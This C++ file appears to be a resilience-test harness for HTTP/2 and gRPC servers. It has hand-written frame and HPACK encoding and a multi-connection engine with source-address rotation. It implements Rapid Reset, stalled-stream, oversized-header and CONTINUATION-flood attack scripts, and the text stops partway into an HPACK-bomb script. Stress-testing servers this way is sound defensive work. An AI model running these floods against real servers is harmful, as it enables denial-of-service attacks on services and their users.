#include "testing/http2_attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstddef>
#include <cstring>
#include <deque>
#include <map>
#include <optional>
#include <utility>

#include "absl/status/status.h"
#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "absl/strings/str_replace.h"
#include "absl/strings/str_split.h"
#include "absl/strings/strip.h"
#include "absl/time/clock.h"

namespace omd::testing {

namespace http2 {

void AppendFrame(std::string* out, uint8_t type, uint8_t flags, uint32_t stream_id,
                 absl::string_view payload) {
  const size_t length = payload.size();
  out->push_back(static_cast<char>((length >> 16) & 0xff));
  out->push_back(static_cast<char>((length >> 8) & 0xff));
  out->push_back(static_cast<char>(length & 0xff));
  out->push_back(static_cast<char>(type));
  out->push_back(static_cast<char>(flags));
  out->append(BigEndian32(stream_id & 0x7fffffff));
  out->append(payload.data(), payload.size());
}

std::string BigEndian32(uint32_t value) {
  std::string bytes(4, '\0');
  bytes[0] = static_cast<char>(value >> 24);
  bytes[1] = static_cast<char>((value >> 16) & 0xff);
  bytes[2] = static_cast<char>((value >> 8) & 0xff);
  bytes[3] = static_cast<char>(value & 0xff);
  return bytes;
}

}  // namespace http2

namespace hpack {

void AppendInteger(std::string* out, uint8_t high_bits, int prefix_bits, uint64_t value) {
  const uint64_t prefix_max = (uint64_t{1} << prefix_bits) - 1;
  if (value < prefix_max) {
    out->push_back(static_cast<char>(high_bits | value));
    return;
  }
  out->push_back(static_cast<char>(high_bits | prefix_max));
  value -= prefix_max;
  while (value >= 0x80) {
    out->push_back(static_cast<char>((value & 0x7f) | 0x80));
    value >>= 7;
  }
  out->push_back(static_cast<char>(value));
}

namespace {

// A string literal (§5.2) with H = 0: its length, then its bytes as they are.
void AppendStringLiteral(std::string* out, absl::string_view text) {
  AppendInteger(out, 0x00, 7, text.size());
  out->append(text.data(), text.size());
}

}  // namespace

void AppendLiteral(std::string* out, absl::string_view name, absl::string_view value) {
  out->push_back('\0');  // 0000 0000: without indexing, name index 0 (a new name)
  AppendStringLiteral(out, name);
  AppendStringLiteral(out, value);
}

void AppendLiteralWithIndexing(std::string* out, absl::string_view name, absl::string_view value) {
  out->push_back('\x40');  // 0100 0000: incremental indexing, name index 0
  AppendStringLiteral(out, name);
  AppendStringLiteral(out, value);
}

void AppendIndexed(std::string* out, uint64_t index) { AppendInteger(out, 0x80, 7, index); }

}  // namespace hpack

std::vector<HeaderField> GrpcRequestHeaders(const RequestOptions& request,
                                            absl::string_view target) {
  return {
      {":method", "POST"},
      {":scheme", "http"},
      {":path", request.path},
      {":authority", request.authority.empty() ? std::string(target) : request.authority},
      {"content-type", "application/grpc"},
      {"te", "trailers"},
  };
}

std::string EncodeHeaderBlock(const std::vector<HeaderField>& fields) {
  std::string block;
  for (const HeaderField& field : fields) hpack::AppendLiteral(&block, field.name, field.value);
  return block;
}

namespace {

constexpr uint32_t kLastStreamId = 0x7fffffff;
// Refill a connection's queue when less than this is waiting for the socket: enough
// to keep the kernel busy between two polls, little enough that ACKs queued behind
// it go out promptly and that the counts lag the socket by little.
constexpr size_t kRefillBelowBytes = 64 << 10;
// How long a connection may linger after the server's GOAWAY before the attacker
// closes it (gRPC closes at once after a GOAWAY for a protocol error).
constexpr absl::Duration kGoawayGrace = absl::Seconds(1);
// A reconnection that failed is retried after this, not in a tight loop.
constexpr absl::Duration kReconnectBackoff = absl::Milliseconds(20);
// The longest a poll sleeps, so that deadlines are met within this.
constexpr absl::Duration kPollTick = absl::Milliseconds(50);

absl::Status ErrnoError(absl::string_view what, int error) {
  return absl::UnavailableError(absl::StrCat(what, ": ", std::strerror(error)));
}

absl::StatusOr<uint32_t> ParseIpv4(absl::string_view text) {
  const std::string address(absl::StripAsciiWhitespace(text));
  in_addr parsed{};
  if (inet_pton(AF_INET, address.c_str(), &parsed) != 1) {
    return absl::InvalidArgumentError(absl::StrCat("not an IPv4 address: \"", address, "\""));
  }
  return ntohl(parsed.s_addr);
}

std::string FormatIpv4(uint32_t host_order) {
  return absl::StrCat(host_order >> 24, ".", (host_order >> 16) & 0xff, ".",
                      (host_order >> 8) & 0xff, ".", host_order & 0xff);
}

sockaddr_in SocketAddress(uint32_t host_order, uint16_t port) {
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_addr.s_addr = htonl(host_order);
  address.sin_port = htons(port);
  return address;
}

// The target and the source addresses of ConnectOptions, parsed once.
struct Endpoints {
  sockaddr_in target{};
  std::vector<sockaddr_in> sources;
};

absl::StatusOr<Endpoints> ResolveEndpoints(const ConnectOptions& connect) {
  const size_t colon = connect.target.rfind(':');
  int port = 0;
  if (colon == std::string::npos ||
      !absl::SimpleAtoi(absl::string_view(connect.target).substr(colon + 1), &port) || port <= 0 ||
      port > 65535) {
    return absl::InvalidArgumentError(
        absl::StrCat("target must be IPv4 host:port, not \"", connect.target, "\""));
  }
  absl::StatusOr<uint32_t> host = ParseIpv4(connect.target.substr(0, colon));
  if (!host.ok()) return host.status();
  Endpoints endpoints;
  endpoints.target = SocketAddress(*host, static_cast<uint16_t>(port));
  for (const std::string& source : connect.source_addresses) {
    absl::StatusOr<uint32_t> parsed = ParseIpv4(source);
    if (!parsed.ok()) return parsed.status();
    endpoints.sources.push_back(SocketAddress(*parsed, 0));
  }
  if (connect.connect_timeout <= absl::ZeroDuration()) {
    return absl::InvalidArgumentError("connect_timeout must be positive");
  }
  return endpoints;
}

// Which source address the next connection of a slot leaves from.
class SourceRotation {
 public:
  SourceRotation(std::vector<sockaddr_in> sources, bool rotate)
      : sources_(std::move(sources)), rotate_(rotate) {}

  std::optional<sockaddr_in> Next(int slot) {
    if (sources_.empty()) return std::nullopt;
    if (rotate_) return sources_[next_++ % sources_.size()];
    return sources_[static_cast<size_t>(slot) % sources_.size()];
  }

 private:
  const std::vector<sockaddr_in> sources_;
  const bool rotate_;
  size_t next_ = 0;
};

// A non-blocking socket bound to `source`, its connect() started. `connected` says
// whether it completed at once (loopback often does).
absl::StatusOr<int> StartConnect(const std::optional<sockaddr_in>& source,
                                 const sockaddr_in& target, int send_buffer_bytes,
                                 bool* connected) {
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) return ErrnoError("socket", errno);
  const int one = 1;
  // Floods are written in large batches; the small frames (ACKs) should not wait.
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  if (send_buffer_bytes > 0) {
    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &send_buffer_bytes, sizeof(send_buffer_bytes));
  }
  if (source.has_value()) {
    // Choose the source port at connect() time, per destination: without this,
    // bind() reserves a port for all destinations and one source address runs out
    // after ~28000 connections in all instead of per target.
    setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one));
    if (bind(fd, reinterpret_cast<const sockaddr*>(&*source), sizeof(*source)) != 0) {
      const int error = errno;
      close(fd);
      return ErrnoError(absl::StrCat("bind ", FormatIpv4(ntohl(source->sin_addr.s_addr))), error);
    }
  }
  *connected = false;
  if (connect(fd, reinterpret_cast<const sockaddr*>(&target), sizeof(target)) == 0) {
    *connected = true;
  } else if (errno != EINPROGRESS) {
    const int error = errno;
    close(fd);
    return ErrnoError("connect", error);
  }
  return fd;
}

// The outcome of a connect() started by StartConnect, once the socket is writable.
absl::Status ConnectResult(int fd) {
  int error = 0;
  socklen_t length = sizeof(error);
  if (getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length) != 0) error = errno;
  if (error != 0) return ErrnoError("connect", error);
  return absl::OkStatus();
}

absl::StatusOr<int> ConnectWithTimeout(const std::optional<sockaddr_in>& source,
                                       const sockaddr_in& target, absl::Duration timeout,
                                       int send_buffer_bytes) {
  bool connected = false;
  absl::StatusOr<int> fd = StartConnect(source, target, send_buffer_bytes, &connected);
  if (!fd.ok() || connected) return fd;
  pollfd waiting{*fd, POLLOUT, 0};
  const int ready = poll(&waiting, 1, static_cast<int>(absl::ToInt64Milliseconds(timeout)));
  absl::Status result = ready > 0    ? ConnectResult(*fd)
                        : ready == 0 ? absl::UnavailableError("connect: timed out")
                                     : ErrnoError("poll", errno);
  if (!result.ok()) {
    close(*fd);
    return result;
  }
  return fd;
}

uint32_t ReadBigEndian(absl::string_view bytes, size_t count) {
  uint32_t value = 0;
  for (size_t i = 0; i < count; ++i) value = (value << 8) | static_cast<uint8_t>(bytes[i]);
  return value;
}
uint32_t ReadBigEndian32(absl::string_view bytes) { return ReadBigEndian(bytes, 4); }

// What a batch of queued bytes counts for, credited to the stats once the kernel
// has taken all of it.
struct Counts {
  int64_t frames = 0;
  int64_t streams = 0;
  int64_t resets = 0;
  int64_t header_block_bytes = 0;
  int64_t data_bytes = 0;
  int64_t control_frames = 0;
};

struct Segment {
  std::string bytes;
  Counts counts;
  // A header block is still open after these bytes (HEADERS or CONTINUATION
  // without END_HEADERS): RFC 9113 §6.10 allows no other frame until it ends.
  bool header_block_open_after = false;
};

// An attack's own state for one connection.
struct ScriptState {
  virtual ~ScriptState() = default;
};

struct Connection {
  int fd = -1;
  absl::Time opened_at;

  std::deque<Segment> outbox;
  size_t front_sent = 0;    // bytes of outbox.front() already sent
  size_t queued_bytes = 0;  // unsent bytes in the outbox
  int64_t sent_bytes = 0;
  // What has been sent ends inside a header block.
  bool header_block_open_in_sent = false;
  // Control frames waiting for the end of the header block being queued.
  std::vector<Segment> deferred_control;
  std::string inbox;  // the start of a frame not yet complete

  // What the server announced.
  bool settings_received = false;
  uint32_t max_frame_size = http2::kDefaultMaxFrameSize;
  int64_t header_table_size = 4096;
  int64_t initial_stream_window = http2::kDefaultWindow;
  // Flow control of the DATA we send: the connection's window and that of each
  // stream that may carry DATA.
  int64_t connection_window = http2::kDefaultWindow;
  std::map<uint32_t, int64_t> stream_windows;

  uint32_t next_stream_id = 1;
  bool goaway_received = false;
  absl::Time goaway_at;
  int64_t responses_received = 0;  // HEADERS and RST_STREAM on this connection
  // The attack has nothing more to send here, nor to wait for.
  bool script_done = false;
  std::unique_ptr<ScriptState> state;

  void Queue(std::string bytes, const Counts& counts, bool header_block_open_after = false) {
    queued_bytes += bytes.size();
    outbox.push_back(Segment{std::move(bytes), counts, header_block_open_after});
    if (!header_block_open_after) {
      for (Segment& control : deferred_control) {
        queued_bytes += control.bytes.size();
        outbox.push_back(std::move(control));
      }
      deferred_control.clear();
    }
  }
  // A frame the server is waiting for (an ACK): ahead of the flood queued here,
  // at the first place outside a header block. (It still comes after whatever
  // the socket buffers hold, megabytes on loopback.) Inside a header block that
  // is still being queued, it waits for the block's end, forever for a
  // CONTINUATION flood.
  void QueueControl(std::string bytes, const Counts& counts) {
    Segment control{std::move(bytes), counts, false};
    bool block_open = header_block_open_in_sent;  // before outbox[i]
    for (size_t i = 0; i <= outbox.size(); ++i) {
      // Not before the front segment once it is partly sent, nor before the
      // preface.
      const bool front_untouched = front_sent == 0 && sent_bytes > 0;
      if (!block_open && (i > 0 || front_untouched)) {
        queued_bytes += control.bytes.size();
        outbox.insert(outbox.begin() + static_cast<std::ptrdiff_t>(i), std::move(control));
        return;
      }
      if (i < outbox.size()) block_open = outbox[i].header_block_open_after;
    }
    deferred_control.push_back(std::move(control));
  }
  uint32_t NewStreamId() {
    const uint32_t id = next_stream_id;
    next_stream_id += 2;
    return id;
  }
  bool StreamIdsLeft(uint32_t count) const { return next_stream_id <= kLastStreamId - 2 * count; }
};

// What an attack sends; the Engine does the connections, the reading and the
// bookkeeping.
class Script {
 public:
  virtual ~Script() = default;
  // The connection is open; the preface and SETTINGS are queued.
  virtual void Start(Connection& connection) {}
  // Little is queued: queue more, or nothing while waiting (for SETTINGS, for a
  // window) or when done (then set script_done if there is nothing to wait for).
  virtual void Refill(Connection& connection) = 0;
};

struct EngineOptions {
  int connections = 1;
  absl::Duration duration;
  bool reconnect = false;
  // False: never read, so what the server sends piles up on its side; closes are
  // still seen (POLLRDHUP, or a failed send).
  bool read_server_frames = true;
  // End as soon as every connection's script is done, or its connection gone.
  bool stop_when_done = false;
};

class Engine {
 public:
  Engine(const ConnectOptions& connect, Endpoints endpoints, EngineOptions options, Script& script)
      : connect_(connect),
        target_(endpoints.target),
        sources_(std::move(endpoints.sources), connect.rotate_sources),
        options_(options),
        script_(script) {}

  AttackStats Run() {
    start_ = absl::Now();
    const absl::Time deadline = start_ + options_.duration;
    slots_.resize(static_cast<size_t>(options_.connections));
    std::vector<pollfd> polled;
    std::vector<size_t> polled_slot;
    while (true) {
      absl::Time now = absl::Now();
      if (now >= deadline) break;
      bool all_dead = true;
      bool all_done = true;
      absl::Time next_retry = absl::InfiniteFuture();
      for (size_t i = 0; i < slots_.size(); ++i) {
        Slot& slot = slots_[i];
        if (slot.dead) continue;
        all_dead = false;
        if (slot.connection == nullptr && now >= slot.retry_at) Open(i);
        if (slot.connection == nullptr) {
          all_done = false;
          next_retry = std::min(next_retry, slot.retry_at);
          continue;
        }
        Connection& connection = *slot.connection;
        if (connection.goaway_received) {
          if (now - connection.goaway_at >= kGoawayGrace) {
            ++stats_.connections_abandoned_after_goaway;
            Drop(i);
            continue;
          }
          next_retry = std::min(next_retry, connection.goaway_at + kGoawayGrace);
        } else if (connection.queued_bytes < kRefillBelowBytes && !connection.script_done) {
          script_.Refill(connection);
        }
        if (!connection.script_done || connection.queued_bytes > 0) all_done = false;
      }
      if (all_dead || (options_.stop_when_done && all_done)) break;

      polled.clear();
      polled_slot.clear();
      for (size_t i = 0; i < slots_.size(); ++i) {
        const Connection* connection = slots_[i].connection.get();
        if (connection == nullptr) continue;
        short events = options_.read_server_frames ? POLLIN : POLLRDHUP;
        if (connection->queued_bytes > 0) events |= POLLOUT;
        polled.push_back(pollfd{connection->fd, events, 0});
        polled_slot.push_back(i);
      }
      const absl::Duration sleep =
          std::max(absl::ZeroDuration(), std::min({deadline - now, next_retry - now, kPollTick}));
      // Round up: a 0 ms poll before a deadline 0.4 ms away would spin.
      const int timeout_ms = static_cast<int>(absl::ToInt64Milliseconds(sleep)) + 1;
      const int ready = poll(polled.data(), polled.size(), timeout_ms);
      if (ready <= 0) continue;
      for (size_t k = 0; k < polled.size(); ++k) {
        const short revents = polled[k].revents;
        if (revents == 0) continue;
        const size_t i = polled_slot[k];
        if ((revents & POLLOUT) != 0 && !Flush(i)) continue;
        if (slots_[i].connection == nullptr) continue;
        if (options_.read_server_frames) {
          if ((revents & (POLLIN | POLLHUP | POLLERR)) != 0) Read(i);
        } else if ((revents & (POLLRDHUP | POLLHUP | POLLERR)) != 0) {
          ClosedByServer(i);
        }
      }
    }
    for (size_t i = 0; i < slots_.size(); ++i) {
      if (slots_[i].connection != nullptr) {
        close(slots_[i].connection->fd);
        slots_[i].connection.reset();
      }
    }
    stats_.elapsed = absl::Now() - start_;
    if (!lifetimes_.empty()) {
      std::sort(lifetimes_.begin(), lifetimes_.end());
      stats_.closed_connection_lifetime_min = lifetimes_.front();
      stats_.closed_connection_lifetime_median = lifetimes_[lifetimes_.size() / 2];
      stats_.closed_connection_lifetime_max = lifetimes_.back();
    }
    return stats_;
  }

 private:
  struct Slot {
    std::unique_ptr<Connection> connection;
    absl::Time retry_at = absl::InfinitePast();
    bool dead = false;  // closed and not to be reopened
  };

  void Open(size_t i) {
    Slot& slot = slots_[i];
    absl::StatusOr<int> fd =
        ConnectWithTimeout(sources_.Next(static_cast<int>(i)), target_, connect_.connect_timeout,
                           connect_.socket_send_buffer_bytes);
    if (!fd.ok()) {
      ++stats_.connect_failures;
      if (stats_.first_connect_error.empty()) {
        stats_.first_connect_error = std::string(fd.status().message());
      }
      if (options_.reconnect) {
        slot.retry_at = absl::Now() + kReconnectBackoff;
      } else {
        slot.dead = true;
      }
      return;
    }
    ++stats_.connections_opened;
    slot.connection = std::make_unique<Connection>();
    Connection& connection = *slot.connection;
    connection.fd = *fd;
    connection.opened_at = absl::Now();
    std::string preface(http2::kClientPreface);
    http2::AppendFrame(&preface, http2::kSettings, 0, 0, "");
    connection.Queue(std::move(preface), Counts{.frames = 1, .control_frames = 1});
    script_.Start(connection);
  }

  // The attacker closes the connection (and may open another).
  void Drop(size_t i) {
    Slot& slot = slots_[i];
    close(slot.connection->fd);
    slot.connection.reset();
    if (options_.reconnect) {
      slot.retry_at = absl::Now();
    } else {
      slot.dead = true;
    }
  }

  void ClosedByServer(size_t i) {
    const absl::Time now = absl::Now();
    ++stats_.connections_closed_by_server;
    lifetimes_.push_back(now - slots_[i].connection->opened_at);
    stats_.first_server_close_after = std::min(stats_.first_server_close_after, now - start_);
    Drop(i);
  }

  // Sends what the socket takes; false if the connection turned out closed.
  bool Flush(size_t i) {
    Connection& connection = *slots_[i].connection;
    while (!connection.outbox.empty()) {
      Segment& front = connection.outbox.front();
      const ssize_t sent =
          send(connection.fd, front.bytes.data() + connection.front_sent,
               front.bytes.size() - connection.front_sent, MSG_NOSIGNAL | MSG_DONTWAIT);
      if (sent < 0) {
        if (errno == EINTR) continue;
        if (errno == EAGAIN || errno == EWOULDBLOCK) return true;
        ClosedByServer(i);  // EPIPE, ECONNRESET: we never shut down our side
        return false;
      }
      stats_.bytes_sent += sent;
      connection.sent_bytes += sent;
      connection.front_sent += static_cast<size_t>(sent);
      connection.queued_bytes -= static_cast<size_t>(sent);
      if (connection.front_sent == front.bytes.size()) {
        Credit(front.counts);
        connection.header_block_open_in_sent = front.header_block_open_after;
        connection.outbox.pop_front();
        connection.front_sent = 0;
      }
    }
    return true;
  }

  void Credit(const Counts& counts) {
    stats_.frames_sent += counts.frames;
    stats_.streams_opened += counts.streams;
    stats_.resets_sent += counts.resets;
    stats_.header_block_bytes_sent += counts.header_block_bytes;
    stats_.data_bytes_sent += counts.data_bytes;
    stats_.control_frames_sent += counts.control_frames;
  }

  void Read(size_t i) {
    Connection& connection = *slots_[i].connection;
    char buffer[64 << 10];
    // A few reads per poll, so that one chatty connection cannot starve the others.
    for (int reads = 0; reads < 4; ++reads) {
      const ssize_t received = recv(connection.fd, buffer, sizeof(buffer), MSG_DONTWAIT);
      if (received == 0) {
        ClosedByServer(i);
        return;
      }
      if (received < 0) {
        if (errno == EINTR) continue;
        if (errno == EAGAIN || errno == EWOULDBLOCK) return;
        ClosedByServer(i);
        return;
      }
      stats_.bytes_received += received;
      connection.inbox.append(buffer, static_cast<size_t>(received));
      size_t offset = 0;
      while (connection.inbox.size() - offset >= http2::kFrameHeaderBytes) {
        const absl::string_view header(connection.inbox.data() + offset, http2::kFrameHeaderBytes);
        const size_t length = ReadBigEndian(header, 3);
        if (connection.inbox.size() - offset < http2::kFrameHeaderBytes + length) break;
        const uint8_t type = static_cast<uint8_t>(header[3]);
        const uint8_t flags = static_cast<uint8_t>(header[4]);
        const uint32_t stream_id = ReadBigEndian32(header.substr(5, 4)) & 0x7fffffff;
        HandleFrame(
            connection, type, flags, stream_id,
            absl::string_view(connection.inbox.data() + offset + http2::kFrameHeaderBytes, length));
        offset += http2::kFrameHeaderBytes + length;
      }
      connection.inbox.erase(0, offset);
      if (static_cast<size_t>(received) < sizeof(buffer)) return;
    }
  }

  void HandleFrame(Connection& connection, uint8_t type, uint8_t flags, uint32_t stream_id,
                   absl::string_view payload) {
    switch (type) {
      case http2::kSettings: {
        if ((flags & http2::kFlagAck) != 0) {
          ++stats_.settings_acks_received;
          return;
        }
        ++stats_.settings_received;
        for (size_t at = 0; at + 6 <= payload.size(); at += 6) {
          const uint32_t setting = ReadBigEndian(payload.substr(at), 2);
          const uint32_t value = ReadBigEndian32(payload.substr(at + 2, 4));
          switch (setting) {
            case http2::kSettingsHeaderTableSize:
              connection.header_table_size = value;
              break;
            case http2::kSettingsMaxConcurrentStreams:
              stats_.server_max_concurrent_streams = value;
              break;
            case http2::kSettingsInitialWindowSize: {
              // §6.9.2: the change applies to the windows of open streams too.
              const int64_t delta = int64_t{value} - connection.initial_stream_window;
              for (auto& [stream, window] : connection.stream_windows) window += delta;
              connection.initial_stream_window = value;
              stats_.server_initial_window_size = value;
              break;
            }
            case http2::kSettingsMaxFrameSize:
              if (value >= http2::kDefaultMaxFrameSize && value < (1u << 24)) {
                connection.max_frame_size = value;
              }
              break;
            default:
              break;
          }
        }
        connection.settings_received = true;
        std::string ack;
        http2::AppendFrame(&ack, http2::kSettings, http2::kFlagAck, 0, "");
        connection.QueueControl(std::move(ack), Counts{.frames = 1, .control_frames = 1});
        return;
      }
      case http2::kPing: {
        if ((flags & http2::kFlagAck) != 0) {
          ++stats_.ping_acks_received;
          return;
        }
        ++stats_.pings_received;
        std::string ack;
        http2::AppendFrame(&ack, http2::kPing, http2::kFlagAck, 0, payload);
        connection.QueueControl(std::move(ack), Counts{.frames = 1, .control_frames = 1});
        return;
      }
      case http2::kWindowUpdate: {
        ++stats_.window_updates_received;
        if (payload.size() < 4) return;
        const int64_t increment = ReadBigEndian32(payload) & 0x7fffffff;
        if (stream_id == 0) {
          connection.connection_window += increment;
        } else if (auto window = connection.stream_windows.find(stream_id);
                   window != connection.stream_windows.end()) {
          window->second += increment;
        }
        return;
      }
      case http2::kGoaway:
        ++stats_.goaways_received;
        if (payload.size() >= 8) stats_.last_goaway_error = ReadBigEndian32(payload.substr(4));
        if (!connection.goaway_received) {
          connection.goaway_received = true;
          connection.goaway_at = absl::Now();
        }
        return;
      case http2::kRstStream:
        ++stats_.resets_received;
        ++connection.responses_received;
        if (payload.size() >= 4) stats_.last_reset_error = ReadBigEndian32(payload);
        connection.stream_windows.erase(stream_id);  // no more DATA on it
        return;
      case http2::kHeaders:
        ++stats_.headers_received;
        ++connection.responses_received;
        return;
      case http2::kData:
        ++stats_.data_frames_received;
        return;
      default:
        return;
    }
  }

  const ConnectOptions& connect_;
  const sockaddr_in target_;
  SourceRotation sources_;
  const EngineOptions options_;
  Script& script_;

  absl::Time start_;
  std::vector<Slot> slots_;
  std::vector<absl::Duration> lifetimes_;  // of connections the server closed
  AttackStats stats_;
};

absl::Status CheckConnections(int connections) {
  if (connections < 1 || connections > (1 << 20)) {
    return absl::InvalidArgumentError("connections must be between 1 and 1048576");
  }
  return absl::OkStatus();
}

// Splits a header block into HEADERS and CONTINUATION frames on `stream_id`, with
// END_HEADERS on the last only.
void AppendHeaderBlockFrames(std::string* out, Counts* counts, uint32_t stream_id,
                             absl::string_view block, size_t frame_bytes, uint8_t headers_flags) {
  size_t offset = 0;
  do {
    const size_t length = std::min(frame_bytes, block.size() - offset);
    const bool last = offset + length == block.size();
    const uint8_t type = offset == 0 ? http2::kHeaders : http2::kContinuation;
    const uint8_t flags = static_cast<uint8_t>((offset == 0 ? headers_flags : 0) |
                                               (last ? http2::kFlagEndHeaders : 0));
    http2::AppendFrame(out, type, flags, stream_id, block.substr(offset, length));
    ++counts->frames;
    counts->header_block_bytes += static_cast<int64_t>(length);
    offset += length;
  } while (offset < block.size());
  ++counts->streams;
}

class RapidResetScript : public Script {
 public:
  // Pairs of frames per queued batch: ~8 KiB, one send() for many streams.
  static constexpr int kPairsPerBatch = 64;

  RapidResetScript(std::string header_block, bool made_you_reset)
      : header_block_(std::move(header_block)), made_you_reset_(made_you_reset) {}

  void Refill(Connection& connection) override {
    if (!connection.StreamIdsLeft(kPairsPerBatch)) {
      connection.script_done = true;  // 2^30 streams: not in any test's lifetime
      return;
    }
    std::string bytes;
    Counts counts;
    for (int pair = 0; pair < kPairsPerBatch; ++pair) {
      const uint32_t id = connection.NewStreamId();
      AppendHeaderBlockFrames(&bytes, &counts, id, header_block_, http2::kDefaultMaxFrameSize, 0);
      if (made_you_reset_) {
        http2::AppendFrame(&bytes, http2::kWindowUpdate, 0, id, http2::BigEndian32(0));
        ++counts.control_frames;
      } else {
        http2::AppendFrame(&bytes, http2::kRstStream, 0, id,
                           http2::BigEndian32(http2::kErrorCancel));
        ++counts.resets;
      }
      ++counts.frames;
    }
    connection.Queue(std::move(bytes), counts);
  }

 private:
  const std::string header_block_;
  const bool made_you_reset_;
};

class StalledStreamsScript : public Script {
 public:
  explicit StalledStreamsScript(const StalledStreamsOptions& options, std::string header_block)
      : header_block_(std::move(header_block)),
        streams_per_connection_(options.streams_per_connection),
        message_prefix_(absl::StrCat(absl::string_view("\0", 1),
                                     http2::BigEndian32(options.announced_message_bytes))),
        bytes_per_stream_(message_prefix_.size() + options.sent_message_bytes) {}

  void Start(Connection& connection) override { connection.state = std::make_unique<State>(); }

  void Refill(Connection& connection) override {
    // The server's SETTINGS may shrink the initial window: send DATA only once
    // they are known.
    if (!connection.settings_received) return;
    State& state = static_cast<State&>(*connection.state);
    if (state.streams.empty()) {
      std::string bytes;
      Counts counts;
      for (int k = 0; k < streams_per_connection_ && connection.StreamIdsLeft(1); ++k) {
        const uint32_t id = connection.NewStreamId();
        AppendHeaderBlockFrames(&bytes, &counts, id, header_block_, http2::kDefaultMaxFrameSize, 0);
        connection.stream_windows[id] = connection.initial_stream_window;
        state.streams.push_back(Stream{id, 0});
      }
      connection.Queue(std::move(bytes), counts);
    }
    std::string bytes;
    Counts counts;
    bool all_sent = true;
    for (Stream& stream : state.streams) {
      auto window = connection.stream_windows.find(stream.id);
      if (window == connection.stream_windows.end()) continue;  // reset by the server
      while (stream.sent < bytes_per_stream_ && bytes.size() < kRefillBelowBytes) {
        const int64_t allowed = std::min<int64_t>(
            {connection.connection_window, window->second, connection.max_frame_size,
             static_cast<int64_t>(bytes_per_stream_ - stream.sent)});
        if (allowed <= 0) break;
        const size_t length = static_cast<size_t>(allowed);
        std::string payload(length, 'm');
        for (size_t at = stream.sent; at < message_prefix_.size() && at - stream.sent < length;
             ++at) {
          payload[at - stream.sent] = message_prefix_[at];
        }
        http2::AppendFrame(&bytes, http2::kData, 0, stream.id, payload);
        ++counts.frames;
        counts.data_bytes += allowed;
        stream.sent += length;
        connection.connection_window -= allowed;
        window->second -= allowed;
      }
      if (stream.sent < bytes_per_stream_) all_sent = false;
    }
    if (!bytes.empty()) connection.Queue(std::move(bytes), counts);
    // The rest of every message never comes; holding the connection is all.
    if (all_sent) connection.script_done = true;
  }

 private:
  struct Stream {
    uint32_t id;
    size_t sent;  // bytes of the message (prefix included) sent
  };
  struct State : ScriptState {
    std::vector<Stream> streams;
  };

  const std::string header_block_;
  const int streams_per_connection_;
  const std::string message_prefix_;
  const size_t bytes_per_stream_;
};

class HugeHeaderScript : public Script {
 public:
  // Frames queued per Refill: 64 KiB, the refill threshold.
  static constexpr int kFramesPerRefill = 4;

  HugeHeaderScript(const HugeHeaderOptions& options, std::string block_start)
      : block_start_(std::move(block_start)),
        block_bytes_(block_start_.size() + options.header_value_bytes),
        frame_payload_bytes_(options.frame_payload_bytes) {}

  void Start(Connection& connection) override { connection.state = std::make_unique<State>(); }

  void Refill(Connection& connection) override {
    State& state = static_cast<State&>(*connection.state);
    if (state.offset == block_bytes_) {
      connection.script_done = connection.responses_received > 0;
      return;
    }
    if (state.offset == 0) state.stream_id = connection.NewStreamId();
    const size_t frame_bytes = std::min<size_t>(frame_payload_bytes_, connection.max_frame_size);
    for (int frame = 0; frame < kFramesPerRefill && state.offset < block_bytes_; ++frame) {
      const size_t length = std::min(frame_bytes, block_bytes_ - state.offset);
      // The block: the gRPC headers and the field's name and length, then its
      // value, `header_value_bytes` of 'v'.
      std::string payload(length, 'v');
      for (size_t at = state.offset; at < block_start_.size() && at - state.offset < length; ++at) {
        payload[at - state.offset] = block_start_[at];
      }
      const bool last = state.offset + length == block_bytes_;
      std::string bytes;
      Counts counts{.frames = 1, .header_block_bytes = static_cast<int64_t>(length)};
      if (state.offset == 0) counts.streams = 1;
      http2::AppendFrame(&bytes, state.offset == 0 ? http2::kHeaders : http2::kContinuation,
                         last ? http2::kFlagEndHeaders : 0, state.stream_id, payload);
      connection.Queue(std::move(bytes), counts, /*header_block_open_after=*/!last);
      state.offset += length;
    }
  }

 private:
  struct State : ScriptState {
    size_t offset = 0;  // of the header block, queued so far
    uint32_t stream_id = 0;
  };

  const std::string block_start_;
  const size_t block_bytes_;
  const size_t frame_payload_bytes_;
};

class ContinuationFloodScript : public Script {
 public:
  // CONTINUATION frames per queued batch: ~16 KiB with the default 4 headers.
  static constexpr int kFramesPerBatch = 256;
  // Every connection floods its first stream.
  static constexpr uint32_t kStreamId = 1;

  ContinuationFloodScript(const ContinuationFloodOptions& options, std::string header_block)
      : header_block_(std::move(header_block)) {
    std::string frame_block;
    for (int k = 0; k < options.headers_per_frame; ++k) {
      hpack::AppendLiteral(&frame_block, "x-flood", "0123456789");
    }
    for (int frame = 0; frame < kFramesPerBatch; ++frame) {
      http2::AppendFrame(&batch_, http2::kContinuation, 0, kStreamId, frame_block);
    }
    batch_counts_.frames = kFramesPerBatch;
    batch_counts_.header_block_bytes = int64_t{kFramesPerBatch} * frame_block.size();
  }

  void Start(Connection& connection) override {
    std::string bytes;
    Counts counts{.frames = 1,
                  .streams = 1,
                  .header_block_bytes = static_cast<int64_t>(header_block_.size())};
    http2::AppendFrame(&bytes, http2::kHeaders, 0, connection.NewStreamId(), header_block_);
    connection.Queue(std::move(bytes), counts, /*header_block_open_after=*/true);
  }

  void Refill(Connection& connection) override {
    connection.Queue(batch_, batch_counts_, /*header_block_open_after=*/true);
  }

 private:
  const std::string header_block_;
  std::string batch_;
  Counts batch_counts_;
};

class HpackBombScript : public Script {
 public:
  static constexpr absl::string_view kEntryName = "x-bomb";

  HpackBombScript(const HpackBombOptions& options, std::string header_block)
      : header_block_(std::move(header_block)),
        entry_value_bytes_(options.entry_value_bytes),
        references_per_block_(options.references_per_block) {}

  void Start(Connection& connection) override { connection.state = std::make_unique<State>(); }

